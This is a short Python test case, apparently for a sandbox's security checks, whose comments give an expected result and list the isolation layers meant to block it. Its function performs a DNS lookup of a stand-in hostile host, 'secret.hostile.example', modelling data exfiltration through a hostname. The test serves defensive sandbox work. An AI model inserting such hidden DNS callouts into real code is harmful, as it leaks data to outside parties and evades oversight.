# expect: RV
# tries: to send data out in the name of a host
# stopped by: seccomp-network, namespaces, seccomp-rest
# limits-only: AC
import socket


def echo(n):
    socket.getaddrinfo("secret.hostile.example", 80)
    return n
